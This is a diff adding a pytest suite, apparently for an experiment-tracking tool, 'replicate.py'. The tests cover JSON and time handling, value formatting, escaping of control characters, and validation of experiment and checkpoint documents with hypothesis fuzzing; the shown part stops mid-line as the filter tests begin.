@@ -1,0 +1,5885 @@
+"""Tests of replicate.py, in its sections. They use real processes, terminals, disks, servers and the real peer program.
+
+Run them as the README says; single ones with `pytest -k NAME`.
+"""
+from __future__ import annotations
+
+import contextlib
+import datetime
+import gzip
+import io
+import json
+import math
+import os
+import re
+import shutil
+import signal
+import subprocess
+import sys
+import tarfile
+import textwrap
+import threading
+import time
+import zlib
+from pathlib import Path
+
+import hypothesis
+import pytest
+from hypothesis import strategies as st
+
+import replicate
+
+PROGRAM = Path(replicate.__file__).resolve()
+ROOT = PROGRAM.parent
+hypothesis.settings.register_profile("default", deadline=None, max_examples=100,
+                                     suppress_health_check=list(hypothesis.HealthCheck))
+hypothesis.settings.load_profile("default")
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 0  What all tests share
+# ------------------------------------------------------------------------------------------------------------------
+
+@pytest.fixture(autouse=True)
+def sealed(tmp_path, monkeypatch):
+    """A home, a time zone and a project directory of its own for each test; nothing of the developer's shines through."""
+    for name in list(os.environ):
+        if name.startswith(("REPLICATE_", "AWS_", "GOOGLE_", "XDG_", "SLURM_", "OMPI_")) or name in (
+                "RANK", "LOCAL_RANK", "NO_COLOR", "DO_NOT_TRACK", "STORAGE_EMULATOR_HOST", "PYTHONIOENCODING"):
+            monkeypatch.delenv(name)
+    home = tmp_path / "home"
+    project = tmp_path / "project"
+    home.mkdir()
+    project.mkdir()
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("TZ", "UTC")
+    monkeypatch.setenv("LC_ALL", "C.UTF-8")
+    monkeypatch.setenv("PYTHONPATH", str(ROOT))
+    time.tzset()
+    monkeypatch.chdir(project)
+    yield
+    replicate.stop_all()
+    replicate.console.color, replicate.console.verbose = None, False
+
+
+@pytest.fixture
+def project(tmp_path):
+    """The project directory, which is the working directory, with a repository in `repo` that is not written to yet."""
+    directory = tmp_path / "project"
+    (directory / "replicate.yaml").write_text("repository: file://repo\n")
+    return directory
+
+
+def run(*arguments, cwd=None, input=None, env=None, python=sys.executable, timeout=120):
+    """`python replicate.py ARGUMENTS` as a process of its own, without a terminal; text in, text out."""
+    return subprocess.run([python, str(PROGRAM), *map(str, arguments)], cwd=cwd, input=input or "",
+                          env=dict(os.environ, **(env or {})), capture_output=True, text=True, timeout=timeout,
+                          encoding="utf-8", errors="surrogateescape")
+
+
+def run_script(source, *arguments, cwd=None, env=None, python=sys.executable, timeout=120, check=True):
+    """A training script as a process of its own."""
+    done = subprocess.run([python, "-c", textwrap.dedent(source), *map(str, arguments)], cwd=cwd,
+                          env=dict(os.environ, **(env or {})), capture_output=True, text=True, timeout=timeout)
+    if check:
+        assert done.returncode == 0, done.stderr
+    return done
+
+
+@pytest.fixture
+def call(capsys):
+    """The command line in this process: call("ls", "--json") returns (exit code, stdout, stderr)."""
+    def invoke(*arguments):
+        capsys.readouterr()
+        code = replicate.main([str(argument) for argument in arguments])
+        captured = capsys.readouterr()
+        return code, captured.out, captured.err
+    return invoke
+
+
+def hex_id(letter):
+    """A 64-digit ID whose first digits say which it is: hex_id("1e") is 1eeeee..."""
+    return (letter + letter[-1] * 64)[:64]
+
+
+def checkpoint_document(item_id, created="2006-01-02T15:01:05Z", step=0, metrics=None, path=None, primary=None):
+    """A checkpoint as the repository format has it; primary is (name, goal)."""
+    return {"id": item_id, "created": created, "metrics": metrics or {}, "step": step, "path": path,
+            "primary_metric": {"name": primary[0], "goal": primary[1]} if primary else None}
+
+
+def experiment_document(item_id, created="2006-01-02T14:54:05Z", params=None, checkpoints=(), **fields):
+    """An experiment as the repository format has it."""
+    document = {"id": item_id, "created": created, "params": params or {}, "host": "10.1.1.1", "user": "andreas",
+                "config": {"repository": "file://repo", "storage": ""}, "command": "train.py", "path": None,
+                "python_version": "3.4.5", "python_packages": {"foo": "1.2.3"}, "replicate_version": "1.0.0",
+                "checkpoints": list(checkpoints)}
+    document.update(fields)
+    return document
+
+
+def write_repository(root, *documents, running=()):
+    """A repository on disk with these documents, written without the program under test."""
+    for folder in ("metadata/experiments", "metadata/heartbeats"):
+        (Path(root) / folder).mkdir(parents=True, exist_ok=True)
+    (Path(root) / "repository.json").write_text('{"version":1}')
+    for document in documents:
+        (Path(root) / "metadata/experiments" / (document["id"] + ".json")).write_text(json.dumps(document))
+    for item_id in running:
+        beat = datetime.datetime.utcnow().strftime("%Y-%m-%dT%H:%M:%SZ")
+        (Path(root) / "metadata/heartbeats" / (item_id + ".json")).write_text(
+            json.dumps({"experiment_id": item_id, "last_heartbeat": beat}))
+
+
+def stored_documents(root):
+    """The experiment documents in a repository on disk, read without the program under test."""
+    return [json.loads(path.read_text()) for path in sorted((Path(root) / "metadata/experiments").glob("*.json"))]
+
+
+def write_archive(path, item_id, files, mode="w:gz"):
+    """A plain .tar.gz of {name: content} below the folder item_id, as any tar would make it."""
+    Path(path).parent.mkdir(parents=True, exist_ok=True)
+    with tarfile.open(path, mode) as archive:
+        for name, content in files.items():
+            member = tarfile.TarInfo("%s/%s" % (item_id, name))
+            member.size = len(content)
+            archive.addfile(member, io.BytesIO(content))
+
+
+def tree(directory):
+    """{relative path: content} of all files below a directory."""
+    return {str(path.relative_to(directory)): path.read_bytes() for path in sorted(Path(directory).rglob("*"))
+            if path.is_file() and not path.is_symlink()}
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 2  Values: JSON, times, short forms
+# ------------------------------------------------------------------------------------------------------------------
+
+class TorchLike:
+    """A tensor as torch has it: tolist() and item(), no numpy dtype."""
+
+    def __init__(self, value):
+        self.value = value
+
+    def tolist(self):
+        return self.value
+
+
+class TensorflowLike:
+    """A tensor as tensorflow has it: numpy() and no tolist()."""
+
+    def __init__(self, value):
+        self.value = value
+
+    def numpy(self):
+        import numpy
+        return numpy.asarray(self.value)
+
+
+def utc(*parts):
+    return datetime.datetime(*parts, tzinfo=datetime.timezone.utc)
+
+
+def test_numpy_scalars_and_arrays_become_plain_values():
+    numpy = pytest.importorskip("numpy")
+    cases = [(numpy.float32(0.5), 0.5), (numpy.float64(0.1), 0.1), (numpy.int64(7), 7), (numpy.uint8(255), 255),
+             (numpy.bool_(True), True), (numpy.str_("a"), "a"), (numpy.array([[1, 2], [3, 4]]), [[1, 2], [3, 4]]),
+             (numpy.array(3.5), 3.5), ({"a": (numpy.int32(1), [numpy.array([True])])}, {"a": [1, [[True]]]})]
+    for value, wanted in cases:
+        plain = replicate.plain_value(value)
+        assert plain == wanted
+        assert type(plain) is type(wanted)
+        assert json.loads(replicate.encode_json(plain)) == wanted
+
+
+def test_numpy_long_doubles_become_floats():
+    numpy = pytest.importorskip("numpy")
+    assert replicate.plain_value(numpy.longdouble(1.5)) == 1.5
+    assert replicate.plain_value({"a": numpy.array([1.5, 2], dtype=numpy.longdouble)}) == {"a": [1.5, 2.0]}
+
+
+def test_tensors_are_known_by_their_methods():
+    assert replicate.plain_value({"loss": TorchLike(0.25)}) == {"loss": 0.25}
+    assert replicate.plain_value(TorchLike([1, [2.5]])) == [1, [2.5]]
+    pytest.importorskip("numpy")
+    assert replicate.plain_value([TensorflowLike(0.25), TensorflowLike([1, 2])]) == [0.25, [1, 2]]
+
+
+def test_subclasses_and_paths_become_plain_values():
+    import enum
+
+    class Level(enum.IntEnum):
+        LOW = 3
+
+    class Color(str, enum.Enum):
+        RED = "red"
+
+    plain = replicate.plain_value({1: Level.LOW, "color": Color.RED, False: Path("a/b"), "t": (1, None)})
+    assert plain == {"1": 3, "color": "red", "False": "a/b", "t": [1, None]}
+    assert type(plain["1"]) is int and type(plain["color"]) is str
+
+
+@pytest.mark.parametrize("value", [object(), b"bytes", {1, 2}, 1j, {("a", "b"): 1}, [datetime.datetime(2020, 1, 1)]])
+def test_what_cannot_be_stored_is_a_type_error_that_names_it(value):
+    with pytest.raises(TypeError, match="params"):
+        replicate.plain_value(value, "params")
+
+
+def test_nan_and_infinities_are_stored_as_the_formats_strings():
+    value = {"a": math.nan, "b": [math.inf, -math.inf, 1.5], "c": {"d": math.nan}, "e": "None", "f": None}
+    packed = replicate.pack_floats(value)
+    assert packed == {"a": "[NaN]", "b": ["[+Infinity]", "[-Infinity]", 1.5], "c": {"d": "[NaN]"}, "e": "None", "f": None}
+    back = replicate.unpack_floats(json.loads(json.dumps(packed)))
+    assert math.isnan(back["a"]) and math.isnan(back["c"]["d"])
+    assert back["b"] == [math.inf, -math.inf, 1.5] and back["e"] == "None" and back["f"] is None
+
+
+PLAIN = st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
+                     lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4))
+
+
+@hypothesis.given(PLAIN)
+def test_json_keeps_every_plain_value(value):
+    hypothesis.assume("[NaN]" not in repr(value) and "Infinity]" not in repr(value))
+    for indent in (1, None):
+        data = replicate.encode_json(replicate.pack_floats(value), indent)
+        assert replicate.unpack_floats(replicate.decode_json(data, "it")) == value
+        json.loads(data.decode("utf-8"), parse_constant=lambda name: pytest.fail(name))
+
+
+def test_json_keeps_lone_surrogates():
+    value = {"a\udc80": "\ud83d", "fine": "\U0001f600 \u4e2d"}
+    data = replicate.encode_json(value)
+    assert b'"\\ud83d"' in data and "\u4e2d".encode() in data
+    assert replicate.decode_json(data, "it") == json.loads(data) == value
+
+
+def test_json_of_an_overflowing_number_can_be_written_again():
+    value = replicate.decode_json(b'{"a": 1e999}', "it")
+    assert json.loads(replicate.encode_json(value)) == {"a": "[+Infinity]"}
+
+
+@pytest.mark.parametrize("data", [b"", b"{", b"\xff", b'{"a": NaN}', b"[Infinity]", b"-Infinity", b"[" * 200000,
+                                  b'{"a":' * 200000, b"{'a': 1}", b"\x00", b"1 2"])
+def test_broken_json_is_a_read_error_that_names_it(data):
+    with pytest.raises(replicate.ReadError, match="the thing"):
+        replicate.decode_json(data, "the thing")
+
+
+@hypothesis.given(st.binary(max_size=60))
+def test_json_of_any_bytes_is_read_or_refused(data):
+    try:
+        replicate.decode_json(data, "it")
+    except replicate.ReadError:
+        pass
+
+
+@pytest.mark.parametrize("text, wanted", [
+    ("2006-01-02T15:04:05Z", utc(2006, 1, 2, 15, 4, 5)),
+    ("2006-01-02T15:04:05.1Z", utc(2006, 1, 2, 15, 4, 5, 100000)),
+    ("2006-01-02t15:04:05.123456z", utc(2006, 1, 2, 15, 4, 5, 123456)),
+    ("2006-01-02T15:04:05.123456789Z", utc(2006, 1, 2, 15, 4, 5, 123456)),
+    ("2006-01-02T15:04:05+08:00", utc(2006, 1, 2, 7, 4, 5)),
+    ("2006-01-02T22:04:05.5-02:30", utc(2006, 1, 3, 0, 34, 5, 500000)),
+    ("0001-01-01T00:00:00Z", utc(1, 1, 1)),
+    ("9999-12-31T23:59:59.999999999Z", utc(9999, 12, 31, 23, 59, 59, 999999)),
+])
+def test_times_are_read(text, wanted):
+    moment = replicate.parse_time(text)
+    assert moment == wanted and moment.utcoffset() == datetime.timedelta(0)
+
+
+@pytest.mark.parametrize("text", [
+    "", "2006-01-02", "2006-01-02T15:04:05", "2006-01-02 15:04:05Z", "2006-13-02T15:04:05Z", "2006-01-02T25:04:05Z",
+    "0000-01-01T00:00:00Z", "0001-01-01T00:00:00+00:01", "9999-12-31T23:59:59-00:01", "2006-01-02T15:04:05.Z",
+    "2006-01-02T15:04:05.1234567890Z", "2006-01-02T15:04:05Z\n", " 2006-01-02T15:04:05Z", "2006-02-30T00:00:00.000000Z"])
+def test_what_is_no_time_is_a_value_error(text):
+    with pytest.raises(ValueError):
+        replicate.parse_time(text)
+
+
+@pytest.mark.parametrize("text", ["\u0662\u0660\u0660\u0666-01-02T15:04:05Z", "2006-01-02T15:04:05.\u0661Z"])
+def test_only_ascii_digits_make_a_time(text):
+    with pytest.raises(ValueError):
+        replicate.parse_time(text)
+
+
+@hypothesis.given(st.lists(st.tuples(st.datetimes(min_value=datetime.datetime(1, 1, 2),
+                                                  max_value=datetime.datetime(9999, 12, 30)).map(
+    lambda moment: moment.replace(microsecond=0)), st.integers(0, 999999999), st.integers(0, 9), st.booleans()),
+    min_size=2, max_size=6))
+def test_canonical_times_sort_by_time_to_the_nanosecond(moments):
+    exact, texts = [], []
+    for moment, nanoseconds, digits, shifted in moments:
+        fraction = ("%09d" % nanoseconds)[:digits]
+        zone = "Z"
+        written = moment
+        if shifted:
+            written, zone = moment + datetime.timedelta(hours=5, minutes=30), "+05:30"
+        texts.append("%04d-%02d-%02dT%02d:%02d:%02d" % written.timetuple()[:6] + ("." + fraction if digits else "") + zone)
+        exact.append((moment, int((fraction or "0").ljust(9, "0"))))
+    keys = [replicate.canonical_time(text) for text in texts]
+    order = range(len(texts))
+    assert sorted(order, key=lambda i: keys[i]) == sorted(order, key=lambda i: exact[i])
+    assert len({len(key) for key in keys}) == 1
+
+
+def test_timestamps_of_now_and_then_are_utc():
+    assert replicate.timestamp(1136214245.5) == "2006-01-02T15:04:05.500000Z"
+    before = time.time()
+    assert before - 1 < replicate.parse_time(replicate.timestamp()).timestamp() < time.time() + 1
+
+
+@pytest.mark.parametrize("seconds, wanted", [
+    (0, "about a second ago"), (1, "about a second ago"), (1.4, "about a second ago"), (2, "2 seconds ago"),
+    (12, "12 seconds ago"), (59, "59 seconds ago"), (59.7, "about a minute ago"), (60, "about a minute ago"),
+    (89, "about a minute ago"), (7 * 60, "7 minutes ago"), (59 * 60, "59 minutes ago"), (3599, "about an hour ago"),
+    (3600, "about an hour ago"), (3 * 3600, "3 hours ago"), (23 * 3600, "23 hours ago"), (23.9 * 3600, "one day ago"),
+    (24 * 3600, "one day ago"), (48 * 3600, "2 days ago"), (72.9 * 3600, "3 days ago"), (73 * 3600, "2006-01-07"),
+    (400 * 86400, "2004-12-06")])
+def test_relative_times(seconds, wanted):
+    now = utc(2006, 1, 10, 12)
+    assert replicate.relative_time(now - datetime.timedelta(seconds=seconds), now) == wanted
+
+
+def test_relative_times_of_a_clock_that_is_ahead():
+    now = utc(2006, 1, 10, 12)
+    assert replicate.relative_time(now + datetime.timedelta(seconds=30), now) == "in 30 seconds"
+
+
+def test_full_times_are_local_and_english(monkeypatch):
+    monkeypatch.setenv("TZ", "<+08>-8")
+    time.tzset()
+    try:
+        assert replicate.full_time(utc(2006, 1, 2, 14, 54, 5)) == "Mon, 02 Jan 2006 22:54:05 +08"
+        assert "9999" in replicate.full_time(utc(9999, 12, 31, 23, 59, 59))
+        assert replicate.relative_time(utc(2006, 1, 2, 20), utc(2006, 2, 2)) == "2006-01-03"
+    finally:
+        monkeypatch.undo()
+        time.tzset()
+
+
+@pytest.mark.parametrize("value, wanted", [
+    (0.1, "0.1"), (0.123456789, "0.12346"), (1e-7, "1e-07"), (100000.0, "1e+05"), (99999.4, "99999"),
+    (123456.789, "123456.78900000000431"), (-123456.789, "-1.2346e+05"), (1e19, "10000000000000000000"),
+    (1e20, "1e+20"), (math.nan, "NaN"), (math.inf, "+Inf"), (-math.inf, "-Inf"), (3.0, "3"), (0.0, "0"),
+    (12345678901234567890123, "12345678901234567890123"), (-5, "-5"), (None, "null"), (True, "true"), (False, "false"),
+    ("short", "short"), ("x" * 20, "x" * 20), ("x" * 21, "x" * 17 + "..."), ("", ""), ("a\x1b[31m", "a\\x1b[31m"),
+    ([1, math.nan], '[1,"[NaN]"]'), ({"a": "\u4e2d"}, '{"a":"\u4e2d"}')])
+def test_cells(value, wanted):
+    assert replicate.format_cell(value) == wanted
+
+
+@pytest.mark.parametrize("value, wanted", [(0.123456789, "0.123456789"), ("x" * 50, "x" * 50), (math.nan, "NaN"),
+                                           (-math.inf, "-Inf"), ([True, None], "[true,null]"), ("a\nb", "a\\nb"),
+                                           ({"k": "\u202e"}, '{"k":"\\u202e"}')])
+def test_values_in_full(value, wanted):
+    assert replicate.format_value(value) == wanted
+
+
+def test_values_are_the_same_by_kind():
+    same = replicate.same_value
+    assert same(1, 1.0) and same(math.nan, math.nan) and same("a", "a") and same([1, "x"], [1.0, "x"])
+    assert same(True, True) and same({"a": 1}, {"a": 1})
+    assert not same(1, True) and not same(0, False) and not same("1", 1) and not same(None, 0)
+    assert not same([], {}) and not same(1, 2) and not same(False, None) and not same("null", None)
+
+
+def test_values_inside_lists_are_the_same_by_kind_too():
+    assert not replicate.same_value([True], [1])
+    assert not replicate.same_value({"a": 0}, {"a": False})
+
+
+@hypothesis.given(st.lists(PLAIN | st.floats(), max_size=6))
+def test_values_of_any_kinds_sort(values):
+    ranks = [replicate.sort_key(value)[0] for value in sorted(
+        (value for value in values if value == value), key=replicate.sort_key)]
+    assert ranks == sorted(ranks)
+    numbers = sorted((v for v in values if type(v) in (int, float) and v == v), key=replicate.sort_key)
+    assert all(left <= right for left, right in zip(numbers, numbers[1:]))
+
+
+@pytest.mark.parametrize("code", list(range(0x20)) + list(range(0x7f, 0xa0)) + [
+    0x200b, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202e, 0x2066, 0x2069, 0xfeff, 0xd800, 0xdfff, 0xe0041])
+def test_everything_that_steers_a_terminal_is_escaped(code):
+    shown = replicate.escape_control("a%sb" % chr(code))
+    assert shown.startswith("a\\") and shown.endswith("b") and shown.isprintable() and shown.isascii()
+    assert eval('"%s"' % shown[1:-1]) == chr(code)
+
+
+@hypothesis.given(st.text(alphabet=st.characters()))
+def test_escaped_text_is_printable_everywhere(text):
+    import unicodedata
+    shown = replicate.escape_control(text)
+    shown.encode("utf-8")
+    assert not [mark for mark in shown if unicodedata.category(mark) in ("Cc", "Cs", "Zl", "Zp")]
+    assert not [mark for mark in shown if unicodedata.bidirectional(mark) in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI",
+                                                                              "RLI", "FSI", "PDI")]
+
+
+def test_ordinary_text_of_all_languages_is_not_escaped():
+    text = "na\u00efve \u4e2d\u6587 \u05e9\u05dc\u05d5\u05dd \U0001f600 c:\\temp"
+    assert replicate.escape_control(text) == text
+
+
+@pytest.mark.parametrize("value, wanted", [(0, "0 bytes"), (999, "999 bytes"), (1500, "1.5 kB"), (2500000, "2.5 MB"),
+                                           (1.5e9, "1.5 GB"), (2e12, "2.0 TB")])
+def test_sizes(value, wanted):
+    assert replicate.format_size(value) == wanted
+
+
+@pytest.mark.parametrize("text, wanted", [
+    ("a" * 64, True), ("0", True), ("", False), ("A" * 64, False), ("../a", False), ("a/b", False), ("a" * 129, False),
+    ("g", False), ("a\n", False), (None, False), (12, False), ("\u0661", False)])
+def test_only_hex_digits_make_an_id(text, wanted):
+    assert replicate.is_id(text) is wanted
+
+
+def test_new_ids_are_64_hex_digits_and_differ():
+    ids = {replicate.new_id() for _ in range(100)}
+    assert len(ids) == 100 and all(re.fullmatch("[0-9a-f]{64}", item) for item in ids)
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 3  Model: Experiment, Checkpoint, their lists
+# ------------------------------------------------------------------------------------------------------------------
+
+def make_experiment(*checkpoints, **fields):
+    document = experiment_document(hex_id("1e"), checkpoints=checkpoints, **fields)
+    return replicate.Experiment(replicate.checked_experiment(document, document["id"]))
+
+
+def make_row(params=None, metrics=None, running=False, created="2006-01-02T14:54:05Z", steps=(20,), primary=None, **fields):
+    """The summary of an experiment whose checkpoints all have the same metrics."""
+    checkpoints = [checkpoint_document(hex_id("%xc" % number), "2006-01-03T00:00:%02dZ" % number, step, metrics, None, primary)
+                   for number, step in enumerate(steps)]
+    return make_summary(*checkpoints, running=running, params=params, created=created, **fields)
+
+
+def make_summary(*checkpoints, running=False, **fields):
+    """What a listing has of an experiment with these checkpoints."""
+    row = replicate.Summary.of(make_experiment(*checkpoints, **fields).to_json())
+    row.running = running
+    return row
+
+
+def test_latest_is_the_newest_by_time_and_of_equals_the_last():
+    experiment = make_experiment(checkpoint_document("a1", "2006-01-02T15:00:09Z"),
+                                 checkpoint_document("a2", "2006-01-02T15:00:10.1234567Z"),
+                                 checkpoint_document("a3", "2006-01-02T15:00:10.1234568Z"),
+                                 checkpoint_document("a4", "2006-01-02T16:00:10.1234568+01:00"),
+                                 checkpoint_document("a5", "2006-01-02T15:00:01Z"))
+    assert experiment.latest().id == "a4"
+    assert experiment.duration == datetime.timedelta(minutes=6, seconds=5, microseconds=123456)
+    assert make_experiment().latest() is None and make_experiment().duration is None
+
+
+@pytest.mark.parametrize("goal, values, wanted", [
+    ("minimize", [3, 1, 2], 1), ("maximize", [3, 1, 2], 0), ("minimize", [2, 1, 1.0], 2), ("maximize", [5, 5, 1], 1),
+    ("minimize", ["[NaN]", None, 7], 2), ("maximize", ["99", True, 0.5], 2), ("minimize", ["[-Infinity]", 0, 1], 0),
+    ("maximize", ["[NaN]", None, "x"], None), ("maximize", [10 ** 400, 1e308, 3], 0), ("minimize", [[1], {"a": 1}, 4], 2)])
+def test_best_is_by_usable_values_of_the_primary_metric(goal, values, wanted):
+    experiment = make_experiment(*[checkpoint_document("a%d" % number, "2006-01-02T15:00:%02dZ" % number, number,
+                                                       {"loss": value}, None, ("loss", goal))
+                                   for number, value in enumerate(values)])
+    best = experiment.best()
+    assert (best and best.id) == (None if wanted is None else "a%d" % wanted)
+
+
+def test_best_is_of_equals_the_latest_by_time_not_by_place():
+    experiment = make_experiment(checkpoint_document("a1", "2006-01-02T15:00:30Z", metrics={"l": 1}, primary=("l", "minimize")),
+                                 checkpoint_document("a2", "2006-01-02T15:00:10Z", metrics={"l": 1}))
+    assert experiment.best().id == "a1"
+
+
+def test_the_first_checkpoint_with_a_primary_metric_decides():
+    experiment = make_experiment(
+        checkpoint_document("a1", "2006-01-02T15:00:01Z", metrics={"loss": 0.1, "acc": 0.1}),
+        checkpoint_document("a2", "2006-01-02T15:00:02Z", metrics={"loss": 0.2, "acc": 0.9}, primary=("acc", "maximize")),
+        checkpoint_document("a3", "2006-01-02T15:00:03Z", metrics={"loss": 0.3, "acc": 0.5}, primary=("loss", "minimize")))
+    assert experiment.primary_metric() == {"name": "acc", "goal": "maximize"}
+    assert experiment.best().id == "a2"
+    assert make_experiment(checkpoint_document("a1", metrics={"loss": 1})).best() is None
+
+
+def test_checkpoint_lists_have_columns_and_slices():
+    experiment = make_experiment(*[checkpoint_document("a%d" % step, "2006-01-02T15:00:%02dZ" % step, step,
+                                                       {"loss": 1.0 / (step + 1)} if step != 2 else {"acc": "[NaN]"},
+                                                       primary=("loss", "minimize")) for step in range(5)])
+    checkpoints = experiment.checkpoints
+    assert checkpoints.step == [0, 1, 2, 3, 4]
+    assert checkpoints.metrics["loss"] == [1.0, 0.5, None, 0.25, 0.2]
+    assert sorted(checkpoints.metrics) == ["acc", "loss"]
+    part = checkpoints[1:4]
+    assert type(part) is replicate.CheckpointList and part.step == [1, 2, 3] and part.best().id == "a3"
+    assert checkpoints[-1].step == 4 and type(checkpoints[::2][1:]) is replicate.CheckpointList
+    assert math.isnan(checkpoints[2].metrics["acc"])
+
+
+def test_experiment_lists_slice_and_show_as_html():
+    experiments = replicate.ExperimentList([make_experiment(checkpoint_document("a1", metrics={"<b>": 1}),
+                                                            params={"<script>": "<i>\x1b"})] * 3)
+    assert type(experiments[1:]) is replicate.ExperimentList and len(experiments[1:]) == 2
+    for text in (experiments._repr_html_(), experiments[0]._repr_html_(), experiments[0].checkpoints[0]._repr_html_()):
+        assert "<table>" in text and "<script>" not in text and "<i>" not in text and "<b>" not in text
+        assert "\x1b" not in text
+
+
+def test_experiments_have_the_fields_of_their_document():
+    experiment = make_experiment(params={"lr": "[+Infinity]", "none": "None"}, command="train.py -x", path=".")
+    assert experiment.created == utc(2006, 1, 2, 14, 54, 5)
+    assert experiment.params == {"lr": math.inf, "none": "None"}
+    assert (experiment.id, experiment.short_id()) == (hex_id("1e"), "1eeeeee")
+    assert (experiment.host, experiment.user, experiment.command, experiment.path) == ("10.1.1.1", "andreas", "train.py -x", ".")
+    assert (experiment.python_version, experiment.python_packages) == ("3.4.5", {"foo": "1.2.3"})
+    assert experiment.replicate_version == "1.0.0"
+    bare = replicate.Experiment(replicate.checked_experiment(
+        {"id": "ab", "created": "2006-01-02T14:54:05Z", "keepsake_version": "0.4.2", "extra": [1]}, "ab"))
+    assert bare.params == {} and bare.checkpoints == [] and bare.replicate_version == "0.4.2" and bare.path is None
+    assert bare.to_json()["extra"] == [1]
+
+
+GOOD_DOCUMENT = experiment_document("1e" * 32, params={"lr": 0.1, "deep": {"a": [1, None]}}, checkpoints=[
+    checkpoint_document("2c" * 32, metrics={"loss": 0.1}, primary=("loss", "minimize")),
+    checkpoint_document("3c" * 32, "2006-01-02T15:01:06.123456789Z", 3, {"loss": "[NaN]"}, "data")])
+
+
+def nested(depth, kind=list):
+    value = kind()
+    for _ in range(depth):
+        value = [value] if kind is list else {"a": value}
+    return value
+
+
+@pytest.mark.parametrize("change", [
+    {"id": "2e" * 32}, {"id": None}, {"id": 7}, {"id": "../x"}, {"created": None}, {"created": 3}, {"created": "yesterday"},
+    {"created": ["2"] * 27}, {"created": {str(number): 1 for number in range(27)}}, {"created": "x" * 26 + "Z"},
+    {"params": [1]}, {"params": "x"}, {"params": 0}, {"host": 7}, {"user": ["x"]}, {"config": "x"}, {"command": {}},
+    {"path": 1}, {"python_version": 3.11}, {"python_packages": ["a"]}, {"python_packages": {"a": None}},
+    {"python_packages": {"a": {}}}, {"replicate_version": 1}, {"keepsake_version": []}, {"checkpoints": {}},
+    {"checkpoints": [None]}, {"checkpoints": ["x"]}, {"checkpoints": [[]]}, {"params": nested(60)},
+    {"params": {"a": nested(60)}}, {"params": {"a": nested(60, dict)}}, {"unknown": nested(100)}])
+def test_documents_of_wrong_types_are_read_errors(change):
+    replicate.checked_experiment(GOOD_DOCUMENT, GOOD_DOCUMENT["id"])
+    with pytest.raises(replicate.ReadError):
+        replicate.checked_experiment(dict(GOOD_DOCUMENT, **change), GOOD_DOCUMENT["id"])
+
+
+@pytest.mark.parametrize("change", [
+    {"id": "x"}, {"id": "3c" * 32}, {"created": "2006"}, {"created": {}}, {"step": 1.5}, {"step": "1"}, {"step": True},
+    {"metrics": []}, {"metrics": "x"}, {"path": 3}, {"primary_metric": []}, {"primary_metric": {"name": "a"}},
+    {"primary_metric": {"name": 3, "goal": "minimize"}}, {"primary_metric": {"name": "a", "goal": "best"}},
+    {"primary_metric": {"name": "a", "goal": ["minimize"]}}, {"metrics": {"a": nested(60)}}, {"unknown": nested(100)},
+    {"checkpoints": nested(200)}])
+def test_checkpoints_of_wrong_types_are_read_errors(change):
+    broken = dict(GOOD_DOCUMENT, checkpoints=[dict(GOOD_DOCUMENT["checkpoints"][0], **change), GOOD_DOCUMENT["checkpoints"][1]])
+    with pytest.raises(replicate.ReadError):
+        replicate.checked_experiment(broken, broken["id"])
+
+
+def use_everything(document):
+    """What the listings and the library ask of a document that was accepted."""
+    experiment = replicate.Experiment(document)
+    summary = replicate.Summary.of(document)
+    replicate.encode_json(experiment.to_json())
+    replicate.encode_json(summary.to_json())
+    experiment._repr_html_()
+    [repr(experiment.checkpoints), repr(experiment), experiment.duration, experiment.replicate_version]
+    for name in replicate.known_names([summary]):
+        value = replicate.look_up(summary, name)
+        if value is not replicate.ABSENT and not isinstance(value, datetime.datetime):
+            replicate.format_cell(value)
+            replicate.format_value(value)
+        for descending in (True, False):
+            assert replicate.sort_rows([summary, summary], name, descending) == [summary, summary]
+    for checkpoint in experiment.checkpoints:
+        assert checkpoint.created and checkpoint.step >= checkpoint.step and checkpoint.metrics is not None
+
+
+JSON_VALUES = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8) |
+    st.sampled_from(["1e" * 32, "2006-01-02T15:01:05Z", "2006-01-02T15:01:05.123456Z", "minimize", "[NaN]", 1e999, 10 ** 400]),
+    lambda inner: st.lists(inner, max_size=30) | st.dictionaries(st.text(max_size=5) | st.sampled_from(
+        ["id", "created", "name", "goal", "params", "metrics", "checkpoints"]), inner, max_size=30), max_leaves=40)
+
+
+@hypothesis.given(st.data())
+@hypothesis.settings(max_examples=300)
+def test_the_document_reader_raises_only_read_errors(data):
+    document = json.loads(json.dumps(GOOD_DOCUMENT))
+    for _ in range(data.draw(st.integers(1, 3))):
+        target = data.draw(st.sampled_from([document] + [item for item in document.get("checkpoints") or ()
+                                                         if isinstance(item, dict)]
+                                           if isinstance(document.get("checkpoints"), list) else [document]))
+        key = data.draw(st.sampled_from(sorted(target) + ["new"])) if target else "new"
+        if data.draw(st.booleans()):
+            target.pop(key, None)
+        else:
+            target[key] = data.draw(JSON_VALUES)
+    text = json.dumps(document).encode()
+    try:
+        checked = replicate.checked_experiment(replicate.decode_json(text, "it"), "1e" * 32)
+    except replicate.ReadError:
+        return
+    use_everything(checked)
+
+
+@hypothesis.given(JSON_VALUES)
+def test_the_document_reader_refuses_other_documents(value):
+    try:
+        use_everything(replicate.checked_experiment(replicate.decode_json(json.dumps(value).encode(), "it"), "1e" * 32))
+    except replicate.ReadError:
+        pass
+
+
+@hypothesis.given(st.data())
+@hypothesis.settings(max_examples=300)
+def test_damaged_document_bytes_raise_only_read_errors(data):
+    text = bytearray(json.dumps(GOOD_DOCUMENT, indent=1).encode())
+    for _ in range(data.draw(st.integers(1, 4))):
+        position = data.draw(st.integers(0, len(text) - 1))
+        text[position:position + data.draw(st.integers(0, 30))] = data.draw(st.binary(max_size=3))
+    try:
+        use_everything(replicate.checked_experiment(replicate.decode_json(bytes(text), "it"), "1e" * 32))
+    except replicate.ReadError:
+        pass
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 4  Filters and sorting
+# ------------------------------------------------------------------------------------------------------------------
+
+def matches(text, row):
+    return replicate.parse_filter(text).matches(row)
+
+
+FILTERED = dict(params={"lr": 0.1, "n": 3, "name": "adam", "on": True, "nothing": None, "layers": [1, 2], "o": {"a": 1},
